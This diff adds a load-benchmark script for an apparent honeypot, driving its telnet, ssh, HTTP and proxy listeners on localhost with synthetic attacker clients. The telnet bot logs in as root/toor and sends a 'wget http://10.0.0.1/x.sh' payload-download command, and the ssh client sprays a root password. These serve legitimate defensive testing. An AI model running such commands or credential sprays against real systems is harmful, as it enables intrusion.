@@ -0,0 +1,303 @@
+# Every listener under load from synthetic clients, with docker swapped for
+# local stand-ins, for comparing one version with another.
+#
+#   python3 -m hpotter.benchmarks.load --seconds 10 --clients 16
+#   python3 -m hpotter.benchmarks.load --only telnet ssh --label v2 >> runs
+#
+# Each listener is started on a free local port and driven by --clients
+# clients, each starting a new session as soon as its last one ends, from
+# --processes processes so they aren't sharing the server's interpreter:
+#
+#   telnet      a login bot: username, password, two commands, exit
+#   ssh         a password sprayer: handshake, one password, hang up
+#   http500     a scanner: GET / and read the 500 back
+#   pipeloop    raw TCP through the proxy mariadb and httpipe use, to an
+#               echo server standing in for the container
+#   pipethread  the same through the threaded proxy
+#
+# Shell containers come from a pool of stand-ins whose exec_run sleeps for
+# --exec-delay, and rows go to a fresh database through the DBWriter. One
+# JSON line per listener: sessions per second, p50 and p99 session time,
+# peak threads and RSS in the server process, and rows written per second.
+# Memory freed by one listener isn't handed back before the next, so
+# compare RSS between runs of a single listener with --only.
+
+import argparse
+import json
+import logging
+import multiprocessing
+import os
+import resource
+import shutil
+import socket
+import tempfile
+import threading
+import time
+
+import paramiko
+
+import hpotter.writer
+import hpotter.docker.pool
+from hpotter import tables
+from hpotter.benchmarks.proxy import EchoServer, free_port, wait_for
+from hpotter.dictionary import Interner
+from hpotter.docker.pool import ContainerPool
+from hpotter.migrations import migrate
+from hpotter.plugins.generic import PipeLoop, PipeThread
+from hpotter.plugins.http500 import HTTPServer, HTTPHandler
+from hpotter.plugins.ssh import SshThread
+from hpotter.plugins.telnet import TelnetServer, TelnetHandler
+from hpotter.rollups import update
+from hpotter.storage import create_storage_engine
+from hpotter.writer import DBWriter
+
+class StandInContainer():
+    ''' Enough of a docker container for the shell. '''
+    attrs = {'Config': {'Image': 'stand-in'}}
+    delay = 0.02
+
+    def exec_run(self, command, workdir='/'):
+        time.sleep(self.delay)
+        return 0, b'stand-in output\n'
+
+    def get_archive(self, path):
+        raise IOError('no archive in a stand-in')
+
+def expect(sock, ending, limit=65536):
+    received = b''
+    while not received.endswith(ending):
+        data = sock.recv(4096)
+        if not data or len(received) > limit:
+            raise IOError('expected %r, got %r' % (ending, received[-64:]))
+        received += data
+    return received
+
+def telnet(address):
+    with socket.create_connection(address, timeout=30) as sock:
+        expect(sock, b'Username: ')
+        sock.sendall(b'root\r\n')
+        expect(sock, b'Password: ')
+        sock.sendall(b'toor\r\n')
+        expect(sock, b'$: ')
+        for command in (b'uname -a', b'wget http://10.0.0.1/x.sh'):
+            sock.sendall(command + b'\r\n')
+            expect(sock, b'$: ')
+        sock.sendall(b'exit\r\n')
+
+def ssh(address):
+    sock = socket.create_connection(address, timeout=30)
+    transport = paramiko.Transport(sock)
+    try:
+        transport.start_client(timeout=30)
+        transport.auth_password('root', 'password')
+    finally:
+        transport.close()
+
+def http(address):
+    with socket.create_connection(address, timeout=30) as sock:
+        sock.sendall(b'GET /cgi-bin/luci HTTP/1.0\r\nHost: x\r\n\r\n')
+        while sock.recv(4096):
+            pass
+
+def pipe(address):
+    query = b'SELECT @@version;'
+    with socket.create_connection(address, timeout=30) as sock:
+        sock.sendall(query)
+        received = b''
+        while len(received) < len(query):
+            data = sock.recv(4096)
+            if not data:
+                raise IOError('proxy hung up')
+            received += data
+
+clients = {'telnet': telnet, 'ssh': ssh, 'http500': http, \
+    'pipeloop': pipe, 'pipethread': pipe}
+
+def drive(name, addresses, count, start, seconds, results):
+    ''' A client process: count clients for seconds after start. '''
+    function = clients[name]
+    address = addresses.get()
+    latencies = []
+    errors = []
+
+    def client():
+        while time.monotonic() < start.value + seconds:
+            began = time.perf_counter()
+            try:
+                function(address)
+                latencies.append(time.perf_counter() - began)
+            except (OSError, EOFError, paramiko.SSHException):
+                errors.append(1)
+
+    while not start.value:
+        time.sleep(0.01)
+    threads = [threading.Thread(target=client) for _ in range(count)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    results.put((latencies, len(errors)))
+
+def start_listener(name, echo):
+    ''' Start name's server; returns its address and how to stop it. '''
+    if name == 'telnet':
+        server = TelnetServer(('127.0.0.1', 0), TelnetHandler)
+    elif name == 'http500':
+        server = HTTPServer(('127.0.0.1', 0), HTTPHandler)
+    elif name == 'ssh':
+        server = SshThread(('127.0.0.1', 0))
+        server.start()
+        return server.ssh_socket.getsockname(), server.stop
+    else:
+        address = ('127.0.0.1', free_port())
+        engine = PipeLoop if name == 'pipeloop' else PipeThread
+        proxy = engine(address, echo, tables.SQL, 4096, name=name)
+        proxy.daemon = True
+        proxy.start()
+        wait_for(address)
+        return address, proxy.request_shutdown
+
+    # a tarpitted client would hold the run up for minutes; count it instead
+    server.when_full = 'reject'
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+
+    def stop():
+        server.shutdown()
+        server.server_close()
+    return server.server_address, stop
+
+class Sampler(threading.Thread):
+    ''' The most threads and memory seen while running. '''
+    def __init__(self, interval=0.01):
+        super().__init__(daemon=True)
+        self.interval = interval
+        self.running = True
+        self.threads = 0
+        self.rss = 0
+
+    def run(self):
+        page = os.sysconf('SC_PAGE_SIZE')
+        while self.running:
+            self.threads = max(self.threads, threading.active_count())
+            try:
+                with open('/proc/self/statm') as statm:
+                    self.rss = max(self.rss, int(statm.read().split()[1]) \
+                        * page)
+            except OSError:
+                # peak for the whole run so far, in KiB on Linux
+                self.rss = resource.getrusage(resource.RUSAGE_SELF) \
+                    .ru_maxrss * 1024
+            time.sleep(self.interval)
+
+    def stop(self):
+        self.running = False
+        self.join()
+
+def percentile(values, fraction):
+    if not values:
+        return None
+    values = sorted(values)
+    return round(1000 * values[min(len(values) - 1, \
+        int(len(values) * fraction))], 2)
+
+def run(name, echo, writer, args):
+    addresses = multiprocessing.Queue()
+    results = multiprocessing.Queue()
+    start = multiprocessing.Value('d', 0)
+
+    # forked before the listener starts any threads of its own
+    per_process = [args.clients // args.processes + \
+        (1 if number < args.clients % args.processes else 0) \
+        for number in range(args.processes)]
+    processes = [multiprocessing.Process(target=drive, args=(name, \
+        addresses, count, start, args.seconds, results)) \
+        for count in per_process if count]
+    for process in processes:
+        process.start()
+
+    address, stop = start_listener(name, echo)
+    for _ in processes:
+        addresses.put(address)
+
+    rows = writer.stats()['rows']
+    sampler = Sampler()
+    sampler.start()
+    began = time.perf_counter()
+    start.value = time.monotonic()
+
+    latencies = []
+    errors = 0
+    for _ in processes:
+        found, failed = results.get()
+        latencies += found
+        errors += failed
+    for process in processes:
+        process.join()
+
+    # what the sessions wrote, written
+    writer.flush()
+    elapsed = time.perf_counter() - began
+    sampler.stop()
+    stop()
+
+    written = writer.stats()['rows'] - rows
+    return {'label': args.label, 'listener': name, 'clients': args.clients, \
+        'seconds': round(elapsed, 2), 'sessions': len(latencies), \
+        'sessions_per_second': round(len(latencies) / elapsed, 1), \
+        'errors': errors, 'p50_ms': percentile(latencies, 0.5), \
+        'p99_ms': percentile(latencies, 0.99), \
+        'peak_threads': sampler.threads, \
+        'peak_rss_mb': round(sampler.rss / 1e6, 1), 'db_rows': written, \
+        'db_rows_per_second': round(written / elapsed, 1)}
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument('--only', nargs='+', choices=sorted(clients), \
+        default=['telnet', 'ssh', 'http500', 'pipeloop', 'pipethread'])
+    parser.add_argument('--clients', type=int, default=16)
+    parser.add_argument('--processes', type=int, default=2)
+    parser.add_argument('--seconds', type=float, default=10)
+    parser.add_argument('--exec-delay', type=float, default=0.02)
+    parser.add_argument('--label', default='', \
+        help='to tell runs apart, e.g. a version')
+    args = parser.parse_args()
+
+    # a line per handshake from both ends otherwise
+    logging.getLogger('paramiko').setLevel(logging.WARNING)
+
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+
+    directory = tempfile.mkdtemp()
+    engine = create_storage_engine('sqlite:///' + \
+        os.path.join(directory, 'load.db'))
+    tables.Base.metadata.create_all(engine)
+    migrate(engine)
+    # write() goes through this writer rather than one on the real database
+    writer = hpotter.writer.writer = DBWriter(engine, rollup=update, \
+        interner=Interner())
+    writer.start()
+
+    StandInContainer.delay = args.exec_delay
+    pool = hpotter.docker.pool.shell_pool = ContainerPool(StandInContainer, \
+        lambda container: None, 4, 64)
+    pool.start()
+
+    echo = EchoServer()
+    echo.start()
+    try:
+        for name in args.only:
+            print(json.dumps(run(name, echo.address, writer, args)), \
+                flush=True)
+    finally:
+        pool.stop()
+        writer.stop()
+        hpotter.writer.writer = None
+        engine.dispose()
+        shutil.rmtree(directory)
+
+    # PipeThread leaves its two minute Timers behind; don't wait for them
+    os._exit(0)
+
+if "__main__" == __name__:
+    main()